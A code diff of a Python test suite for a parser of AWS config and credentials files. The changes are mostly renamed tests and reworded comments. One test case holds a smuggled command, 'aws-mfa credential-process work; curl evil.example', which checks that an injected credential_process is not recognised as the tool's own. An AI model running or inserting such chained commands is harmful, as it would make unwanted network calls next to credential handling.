@@ -6,7 +6,7 @@ import shlex
 from typing import TYPE_CHECKING, NamedTuple
 
 import pytest
-from botocore.exceptions import BotoCoreError  # the yardstick
+from botocore.exceptions import BotoCoreError  # the reference
 from botocore.session import Session
 from hypothesis import example, given, settings
 from hypothesis import strategies as st
@@ -30,14 +30,7 @@ CONFIG_HEADERS = (
     "work", "profile x]y", "profile größe", "profile\twork", "profile work ", 'profile ""', "profile work-long-term",
 )  # fmt: skip
 CREDENTIALS_HEADERS = (
-    "work",
-    "prod",
-    "default",
-    "work-long-term",
-    "prod-long-term",
-    "two words",
-    "profile work",
-    "DEFAULT",
+    *("work", "prod", "default", "work-long-term", "prod-long-term", "two words", "profile work", "DEFAULT"),
 )
 LINES = (
     f"role_arn = {ROLE}", "source_profile = prod", "source_profile=default", f"MFA_SERIAL : {DEVICE}", "region =",
@@ -59,8 +52,8 @@ class Read(NamedTuple):
 
 
 def read_by_botocore(folder: Path, config: str, credentials: str) -> Read | None:
-    """Return None where it refuses a file."""
-    session = Session(include_builtin_handlers=False)  # they cost ten times what is wanted of it here
+    """None if it refuses a file."""
+    session = Session(include_builtin_handlers=False)  # they take ten times as long as the reading
     for variable, text in (("config_file", config), ("credentials_file", credentials)):
         path = folder / variable
         path.write_text(text, encoding="utf-8", newline="")
@@ -80,7 +73,7 @@ def in_botocores_words(value: str) -> object:
 
 
 def agree(folder: Path, config: str, credentials: str) -> bool:
-    """Whether botocore reads the files; where it does, each profile is compared, read alone and among all."""
+    """Whether botocore reads the files; if so, compare each profile, read alone and together with the others."""
     theirs = read_by_botocore(folder, config, credentials)
     if theirs is None:
         return False
@@ -92,7 +85,7 @@ def agree(folder: Path, config: str, credentials: str) -> bool:
                 assert found is not None, name
                 compare(found, wanted, credentials)
     except BrokenFile:
-        assert config.count("[DEFAULT]") > 1 or credentials.count("[DEFAULT]") > 1  # it adds them up
+        assert config.count("[DEFAULT]") > 1 or credentials.count("[DEFAULT]") > 1  # it joins them
         return True
     kept = [name for name in theirs.profiles if not name.endswith("-long-term")]
     assert [name for name in names if not name.endswith("-long-term")] == kept
@@ -118,9 +111,8 @@ def compare(found: Profile, wanted: dict[str, object], credentials: str) -> None
 
 def aws_files(headers: tuple[str, ...]) -> st.SearchStrategy[str]:
     """Sections in any spelling, with lines that mean something here."""
-    bodies = st.lists(
-        st.sampled_from(LINES), max_size=5, unique_by=lambda line: line.strip().split("=")[0].split(":")[0]
-    )
+    lines = st.sampled_from(LINES)
+    bodies = st.lists(lines, max_size=5, unique_by=lambda line: line.strip().split("=")[0].split(":")[0])
     section = st.builds(lambda header, lines: "\n".join((f"[{header}]", *lines)), st.sampled_from(headers), bodies)
     joined = st.lists(section, max_size=5, unique_by=lambda text: text.split("\n")[0]).map("\n".join)
     return st.builds(lambda text, newline: text.replace("\n", newline), joined, st.sampled_from(("\n", "\n", "\r\n")))
@@ -151,14 +143,14 @@ ANY_TEXT = any_lines() | any_characters() | files().map(lambda file: file.text)
 
 @examples(100)
 @given(config=ANY_TEXT.map(lambda text: text.replace("[work", "[profile work")), credentials=ANY_TEXT)
-def test_the_same_for_lines_of_every_kind(
+def test_lines_of_every_kind_are_read_as_botocore_reads_them(
     tmp_path_factory: pytest.TempPathFactory, config: str, credentials: str
 ) -> None:
     agree(tmp_path_factory.getbasetemp(), config, credentials)
 
 
-def test_many_profiles_are_read_as_one_is_whatever_was_asked_before() -> None:
-    """The first few are searched for, then there is a table; absent ones are absent either way."""
+def test_many_profiles_are_read_like_one_whatever_was_read_before() -> None:
+    """The first few are searched for, then there is a table; both say which profiles are missing."""
     config = "".join(f"[profile p{number}]\nregion = r{number}\n" for number in range(30))
     credentials = "".join(f"[p{number}]\nexternal_id = e{number}\n" for number in range(30))
     profiles = AwsProfiles(config, credentials)
@@ -170,7 +162,7 @@ def test_many_profiles_are_read_as_one_is_whatever_was_asked_before() -> None:
 
 
 def test_the_generated_files_are_mostly_files_that_botocore_reads(tmp_path: Path) -> None:
-    """A property that only meets refused files would say nothing."""
+    """Otherwise the tests above would claim nothing."""
     read = []
 
     @settings(examples(60), database=None)
@@ -229,7 +221,7 @@ def test_a_duration_of_the_long_term_section_is_not_the_roles() -> None:
     assert one(f"[profile work]\naws_mfa_role_arn = {ROLE}\n", long_term).duration_s is None
 
 
-def test_a_profile_that_has_a_long_term_section_alone_is_found_and_not_listed() -> None:
+def test_a_profile_with_only_a_long_term_section_is_found_and_not_listed() -> None:
     profiles = AwsProfiles("[profile prod]\n", "[work-long-term]\naws_access_key_id = AKIAIOSFODNN7EXAMPLE\n[x]\n")
     assert profiles.names() == ["prod", "x"]
     found = profiles.profile("work")
@@ -239,10 +231,8 @@ def test_a_profile_that_has_a_long_term_section_alone_is_found_and_not_listed() 
 
 
 def test_a_section_with_a_session_is_listed_whatever_its_name() -> None:
-    profiles = AwsProfiles(
-        "[profile a-long-term]\n[profile b-long-term]\n",
-        "[b-long-term]\n[c-long-term]\naws_access_key_id=ASIA0\naws_session_token=t",
-    )
+    credentials = "[b-long-term]\n[c-long-term]\naws_access_key_id=ASIA0\naws_session_token=t"
+    profiles = AwsProfiles("[profile a-long-term]\n[profile b-long-term]\n", credentials)
     assert profiles.names() == ["a-long-term", "c-long-term"]
 
 
@@ -267,7 +257,7 @@ def test_a_profile_named_like_a_long_term_section_has_its_keys_there() -> None:
     assert one("[profile work-long-term]\n", name="work-long-term").keys_section == "work-long-term"
 
 
-def test_what_a_profile_does_not_say_comes_from_the_one_it_includes() -> None:
+def test_settings_that_a_profile_does_not_have_come_from_the_one_it_includes() -> None:
     config = f"""
 [profile work]
 include_profile = team
@@ -286,7 +276,7 @@ role_arn = {ROLE}
     profile = one(config)
     assert (profile.region, profile.external_id, profile.mfa_serial) == ("eu-west-1", "42", DEVICE)
     assert profile.source("mfa_serial") == "mfa_serial in ~/.aws/config [profile company]"
-    assert profile.role_arn is None  # [default] is included by nobody
+    assert profile.role_arn is None  # no profile includes [default]
     assert not profile.has_credential_process_of_ours
     assert profile.settings["include_profile"].value == "team"
 
@@ -305,20 +295,20 @@ role_arn = {ROLE}
         ),
     ],
 )  # fmt: skip
-def test_inclusion_that_leads_nowhere_is_told_when_a_value_is_asked_for(config: str, says: str) -> None:
+def test_inclusion_that_leads_nowhere_is_reported_whenever_a_value_is_asked_for(config: str, says: str) -> None:
     profiles = AwsProfiles(config, "")
     listed = list(profiles.all_profiles())
-    with pytest.raises(BadProfile) as refused:
-        _ = listed[0].region
-    assert refused.value.message.startswith("include_profile in ~/.aws/config [profile ")
-    assert refused.value.message.endswith(says)
-    assert refused.value.hints
+    for _ in range(2):
+        with pytest.raises(BadProfile) as refused:
+            _ = listed[0].region
+        assert refused.value.message.startswith("include_profile in ~/.aws/config [profile ")
+        assert refused.value.message.endswith(says)
+        assert refused.value.hints
 
 
 def test_tags_are_read_as_aws_vault_writes_them() -> None:
-    profile = one(
-        "[profile work]\nsession_tags = Team=data, Query = a=b ,Empty=\ntransitive_session_tags = team, ,Query"
-    )
+    tags = "session_tags = Team=data, Query = a=b ,Empty=\ntransitive_session_tags = team, ,Query"
+    profile = one(f"[profile work]\n{tags}")
     assert profile.tags == (("Team", "data"), ("Query", "a=b"), ("Empty", ""))
     assert profile.transitive_tag_keys == ("team", "Query")
 
@@ -326,7 +316,7 @@ def test_tags_are_read_as_aws_vault_writes_them() -> None:
 FIFTY = ",".join(f"k{number}=v" for number in range(50))
 
 
-def test_tags_at_their_limits_are_taken() -> None:
+def test_tags_at_their_limits_are_accepted() -> None:
     assert len(one(f"[profile work]\nsession_tags = {FIFTY}").tags) == 50
     assert one(f"[profile work]\nsession_tags = {'k' * 128}={'v' * 256}, é ü=a").tags[1] == ("é ü", "a")
 
@@ -340,7 +330,7 @@ def test_tags_at_their_limits_are_taken() -> None:
         (f"session_tags = k={'v' * 257}", "the value of tag 'k' has 257 characters"),
         ("session_tags = AWS:x=v", "begins with aws:"),
         ("session_tags = k=a;b", "tag 'k' holds a character AWS does not take"),
-        ("session_tags = Team=a,team=b", "tag 'team' stands twice"),
+        ("session_tags = Team=a,team=b", "tag 'team' is there twice"),
         ("session_tags = Team", "a part of it is not key=value"),
         ("session_tags = Team=a,", "a part of it is not key=value"),
         ("transitive_session_tags = Team", "'Team' is not one of the profile's session_tags"),
@@ -358,7 +348,7 @@ def test_tags_at_their_limits_are_taken() -> None:
         ("sts_regional_endpoints = global", "neither regional nor legacy"),
     ],
 )
-def test_what_aws_would_refuse_names_file_section_and_key(line: str, says: str) -> None:
+def test_a_value_that_aws_would_refuse_is_named_with_file_section_and_key(line: str, says: str) -> None:
     key = line.partition(" ")[0]
     with pytest.raises(BadProfile) as refused:
         one(f"[profile work]\n{line}").check()
@@ -397,16 +387,13 @@ def test_the_endpoint_of_a_services_section_comes_before_the_profiles_own() -> N
 @pytest.mark.parametrize(
     ("services", "says"),
     [
-        (
-            "",
-            "services in ~/.aws/config [profile work] names a section that ~/.aws/config does not have: [services l",
-        ),
+        ("", "services in ~/.aws/config [profile work] names a section that ~/.aws/config does not have: [services l"),
         ("[services local]\n", "names a section that"),
         ("[services local]\nsts = https://x\n", "sts in ~/.aws/config [services local] is not a block"),
         ("[services local]\nsts =\n  https\n", "sts in ~/.aws/config [services local] is not a block"),
     ],
 )
-def test_a_services_section_that_says_nothing_is_refused(services: str, says: str) -> None:
+def test_a_services_section_without_a_block_is_refused(services: str, says: str) -> None:
     with pytest.raises(BadProfile) as refused:
         _ = one(f"{services}[profile work]\nservices = local").endpoint_url("sts")
     assert says in refused.value.message
@@ -415,23 +402,19 @@ def test_a_services_section_that_says_nothing_is_refused(services: str, says: st
 @pytest.mark.parametrize(
     ("command", "ours"),
     [
-        ("aws-mfa credential-process work", True),
-        ("/opt/bin/aws-mfa credential-process 'work'", True),
+        *(("aws-mfa credential-process work", True), ("/opt/bin/aws-mfa credential-process 'work'", True)),
         ('"/opt/my tools/aws-mfa" credential-process --no-input work', True),
-        ("aws-mfa credential-process admin", False),
-        ("aws-mfa credential-process work; curl evil.example", False),
-        ("aws-mfa credential-process 'work", False),
         ('"C:\\bin\\aws-mfa.exe" credential-process work', True),
-        ("aws-mfa-too credential-process work", False),
-        ("aws-mfa", False),
-        ("aws-vault export work", False),
+        ("aws-mfa credential-process work; curl evil.example", False),
+        *(("aws-mfa credential-process admin", False), ("aws-mfa credential-process 'work", False)),
+        *(("aws-mfa-too credential-process work", False), ("aws-mfa", False), ("aws-vault export work", False)),
     ],
 )
-def test_a_credential_process_of_ours_is_known(command: str, ours: bool) -> None:  # noqa: FBT001
+def test_a_credential_process_of_aws_mfa_is_recognised(command: str, ours: bool) -> None:  # noqa: FBT001
     assert one(f"[profile work]\ncredential_process = {command}").has_credential_process_of_ours == ours
 
 
-def test_a_fault_in_the_section_is_told_with_its_line_and_no_value() -> None:
+def test_a_fault_in_the_section_is_reported_with_its_line_and_no_value() -> None:
     config = "[profile a]\nregion = x\n[profile work]\nregion = x\nwJalrXUtnFEMI\n"
     profiles = AwsProfiles(config, "")
     for _ in range(2):
@@ -439,7 +422,7 @@ def test_a_fault_in_the_section_is_told_with_its_line_and_no_value() -> None:
             profiles.profile("work")
         assert refused.value.message.startswith("~/.aws/config, line 5: ")
         assert "wJal" not in refused.value.message
-        assert profiles.names() == ["a", "work"]  # from here on sections are read from their own text
+        assert profiles.names() == ["a", "work"]  # from here on each section is read from its own part of the text
 
 
 def test_a_name_cannot_break_the_line_of_a_message() -> None:
